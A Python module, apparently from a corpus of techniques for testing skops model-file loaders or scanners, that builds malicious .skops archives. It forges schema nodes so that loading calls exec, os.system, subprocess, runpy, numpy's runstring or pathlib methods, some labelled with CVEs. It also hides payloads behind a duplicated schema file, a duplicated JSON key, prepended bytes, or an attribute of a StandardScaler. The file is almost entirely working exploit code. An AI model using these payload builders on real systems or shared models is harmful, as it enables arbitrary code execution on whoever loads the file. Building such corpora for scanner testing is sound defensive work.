"""skops files: genuine schemas with nodes changed, for a loader that trusts what the file asks for."""

from __future__ import annotations

import io
import json
import zipfile
from collections.abc import Callable
from typing import Any

import skops.io

from corpus.entry import Place, Technique
from corpus.gadgets import poisoned

_PROTOCOL = json.loads(zipfile.ZipFile(io.BytesIO(skops.io.dumps(1))).read("schema.json"))["protocol"]


def node(loader: str, cls: str, module: str, **fields: Any) -> dict[str, Any]:
    """Return one node."""
    return {"__class__": cls, "__module__": module, "__loader__": loader, **fields}


def _text(characters: str) -> dict[str, Any]:
    return node("JsonNode", "str", "builtins", content=json.dumps(characters), is_json=True)


def _tuple(*items: dict[str, Any]) -> dict[str, Any]:
    return node("TupleNode", "tuple", "builtins", content=list(items))


def _list(*items: dict[str, Any]) -> dict[str, Any]:
    return node("ListNode", "list", "builtins", content=list(items))


def _dict(**items: dict[str, Any]) -> dict[str, Any]:
    types = _list(*(node("TypeNode", "str", "builtins") for _ in items))
    return node("DictNode", "dict", "builtins", content=items, key_types=types)


def _operator(cls: str, *attributes: dict[str, Any]) -> dict[str, Any]:
    return node("OperatorFuncNode", cls, "operator", attrs=_tuple(*attributes))


def _called(function: dict[str, Any], *arguments: dict[str, Any]) -> dict[str, Any]:
    return _operator("call", function, *arguments)


_EXEC = node("FunctionNode", "exec", "builtins")
_SYSTEM = node("FunctionNode", "system", "os")


def archive(root: dict[str, Any], protocol: int = _PROTOCOL) -> bytes:
    """Return a skops file with this schema."""
    schema = {**root, "protocol": protocol, "_skops_version": skops.__version__}
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as made:
        made.writestr("schema.json", json.dumps(schema))
    return file.getvalue()


def _path(place: Place) -> dict[str, Any]:
    return node("ConstructorFromReduceNode", "PosixPath", "pathlib", content=_tuple(_text(place.marker)))


def _hidden_in_a_model(root: dict[str, Any]) -> dict[str, Any]:
    """Put a node among the attributes of a model."""
    return node("ObjectNode", "StandardScaler", "sklearn.preprocessing._data", content=_dict(with_mean=root))


_ROOTS: dict[str, tuple[str, Callable[[Place], dict[str, Any]]]] = {
    "operator.call of exec": (
        "an operator that is none of the three (CVE-2025-54412)",
        lambda p: _called(_EXEC, _text(p.code)),
    ),
    "operator.call of a type": (
        "the function is named as a type",
        lambda p: _called(node("TypeNode", "system", "os"), _text(p.command)),
    ),
    "methodcaller that is called": (
        "of a path",
        lambda p: _called(_operator("methodcaller", _text("touch")), _path(p)),
    ),
    "attrgetter of a module": (
        "out of a function's own module",
        lambda p: _called(
            _called(_operator("attrgetter", _text("system")), node("FunctionNode", "os", "shutil")),
            _text(p.command),
        ),
    ),
    "method of a path": (
        "a bound method, called (CVE-2025-54413)",
        lambda p: _called(
            node("MethodNode", "PosixPath", "pathlib", content={"func": "touch", "obj": _path(p)})
        ),
    ),
    "method chain": (
        "a method of a method's object (CVE-2025-54413)",
        lambda p: _called(
            node(
                "MethodNode",
                "PosixPath",
                "pathlib",
                content={"func": "write_text", "obj": _path(p)},
            ),
            _text("x"),
        ),
    ),
    "partial that is called": (
        "a partial of exec",
        lambda p: _called(
            node(
                "PartialNode",
                "partial",
                "functools",
                content={
                    "func": _EXEC,
                    "args": _tuple(_text(p.code)),
                    "kwds": _dict(),
                    "namespace": node("JsonNode", "str", "builtins", content="null", is_json=True),
                },
            )
        ),
    ),
    "constructor that is a function": (
        "loader and class disagree (CVE-2024-37065)",
        lambda p: node("ConstructorFromReduceNode", "system", "os", content=_tuple(_text(p.command))),
    ),
    "constructor that is a process": (
        "a class whose constructor acts",
        lambda p: node(
            "ConstructorFromReduceNode",
            "check_call",
            "subprocess",
            content=_tuple(_list(_text("touch"), _text(p.marker))),
        ),
    ),
    "list that is a function": (
        "its elements are the argument (CVE-2024-37065)",
        lambda p: node("ListNode", "check_call", "subprocess", content=[_text("touch"), _text(p.marker)]),
    ),
    "set that is a function": (
        "its elements are the argument",
        lambda p: node("SetNode", "call", "subprocess", content=[_text("touch"), _text(p.marker)]),
    ),
    "loss that is a function": (
        "a constructor of the file's choice",
        lambda p: node(
            "LossNode",
            "system",
            "os",
            __reduce__={"args": _tuple(_text(p.command))},
            content=_dict(),
        ),
    ),
    "object that is imported": (
        "a class whose module is asked for",
        lambda p: _called(node("FunctionNode", "_run_code", "runpy"), _text(p.code), _dict()),
    ),
    "hidden in a model": (
        "an attribute of a scaler",
        lambda p: _hidden_in_a_model(_called(_EXEC, _text(p.code))),
    ),
    "reduce over text": (
        "functools",
        lambda p: _called(node("FunctionNode", "reduce", "functools"), _EXEC, _list(_text(p.code), _dict())),
    ),
    "numpy helper": (
        "a function of a package that models use",
        lambda p: _called(
            node("FunctionNode", "runstring", "numpy.testing._private.utils"), _text(p.code), _dict()
        ),
    ),
}


def _old_function(place: Place) -> bytes:
    """Use the function node of the first protocol, whose class says something else than it imports."""
    function = node(
        "FunctionNode",
        "sqrt",
        "numpy",
        content={"module_path": "os", "function": "system"},
    )
    return archive(_called(function, _text(place.command)), protocol=0)


def _search(place: Place) -> bytes:
    return bytes(skops.io.dumps(poisoned(place)))


def _second_schema(place: Place) -> bytes:
    """Hold the schema twice, the harmless one first: readers differ in which they take."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as made:
        for root in (_list(), _called(_EXEC, _text(place.code))):
            schema = {**root, "protocol": _PROTOCOL, "_skops_version": skops.__version__}
            name = "schema.json" if root["__loader__"] != "ListNode" else "schemb.json"
            made.writestr(name, json.dumps(schema))
    return file.getvalue().replace(b"schemb.json", b"schema.json")


def _doubled_key(place: Place) -> bytes:
    """Hold a key of the schema twice, the harmless one first."""
    act = archive(_called(_EXEC, _text(place.code)))
    with zipfile.ZipFile(io.BytesIO(act)) as opened:
        schema = opened.read("schema.json").decode()
    doubled = '{"__loader__": "JsonNode", "content": "1", ' + schema[1:]
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as made:
        made.writestr("schema.json", doubled)
    return file.getvalue()


def _prefixed(place: Place) -> bytes:
    """Put other bytes before the archive."""
    return b"weights" + archive(_called(_EXEC, _text(place.code)))


TECHNIQUES = [
    *(
        Technique(f"skops {way}", "skops", about, lambda p, root=root: archive(root(p)), "skops", ".skops")
        for way, (about, root) in _ROOTS.items()
    ),
    Technique(
        "skops function of the first protocol",
        "skops",
        "class and contents disagree",
        _old_function,
        "skops",
        ".skops",
    ),
    Technique(
        "skops distribution in a search",
        "skops",
        "one string of a fitted search is changed",
        _search,
        "skops",
        ".skops",
    ),
    Technique("skops schema twice", "skops", "the second is read", _second_schema, "skops", ".skops"),
    Technique("skops key twice", "skops", "the second is read", _doubled_key, "skops", ".skops"),
    Technique("skops behind other bytes", "skops", "zip is read from its end", _prefixed, "skops", ".skops"),
]
